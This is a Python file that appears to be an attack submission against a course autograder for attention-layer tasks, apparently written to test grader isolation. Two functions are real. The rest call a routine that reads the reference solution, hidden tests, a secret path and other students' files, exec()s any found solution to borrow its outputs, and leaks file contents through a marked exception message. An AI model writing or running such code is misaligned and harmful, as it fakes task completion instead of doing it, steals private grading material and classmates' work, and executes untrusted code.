"""Reads the reference, the tests and other students' files from disk (attacks 1, 45, 51).
"""
# needs: files
import glob
import math
import os

import torch
from torch import nn


# The honest part, the same in every file of this folder: two tasks that are right, worth 16 of 100.


class Linear(nn.Module):
    def __init__(self, d_in, d_out, bias=True):
        super().__init__()
        bound = 1 / math.sqrt(d_in)
        self.weight = nn.Parameter(torch.empty(d_out, d_in).uniform_(-bound, bound))
        self.bias = nn.Parameter(torch.zeros(d_out)) if bias else None

    def forward(self, x):
        y = x @ self.weight.T
        return y if self.bias is None else y + self.bias


def merge_heads(x):
    return x.transpose(1, 2).flatten(2)


# The attack, in the place of the other six.

WORD = "got" + "cha:"  # what follows it must not come out
ROOT = "@ROOT@"


def texts():
    places = [ROOT, ".", "..", "/work", os.getcwd(), os.path.dirname(os.path.abspath(__file__))]
    names = ["reference/attention.py", "assignments/given/attention.py", "tests/mutants/attention.toml",
             "tests/checks/hidden_attention.toml", "tests/checks/check_attention.py", "course.toml",
             "tests/submissions/attention/jomo.py"]
    names = [os.path.join(place, name) for place in places for name in names]
    for name in ["@SECRET@", *names, *glob.glob("/tmp/*/*attention*"), *glob.glob(ROOT + "/tests/*/*/*.py")]:
        try:
            with open(name, encoding="utf-8") as file:
                yield name, file.read()
        except OSError:
            continue


def hostile(task, *arguments):
    found = dict(texts())
    for text in found.values():
        if "def softmax(" in text and "..." not in text:
            names = {"__name__": "stolen"}
            exec(text, names)
            if task != "MultiHeadAttention":
                return names[task](*arguments)
    raise OSError(WORD + repr(found) if found else "nothing to read")


def softmax(x, dim):
    return hostile("softmax", x, dim)


def causal_mask(q_len, k_len=None, device=None):
    return hostile("causal_mask", q_len, k_len, device)


def attention_weights(q, k, mask=None):
    return hostile("attention_weights", q, k, mask)


def scaled_dot_product_attention(q, k, v, mask=None):
    return hostile("scaled_dot_product_attention", q, k, v, mask)


def split_heads(x, n_heads):
    return hostile("split_heads", x, n_heads)


class MultiHeadAttention(nn.Module):
    def __init__(self, d_model, n_heads, bias=False):
        super().__init__()
        self.made = d_model, n_heads, bias

    def forward(self, x, mask=None, causal=True):
        return hostile("MultiHeadAttention", self, x, mask, causal)
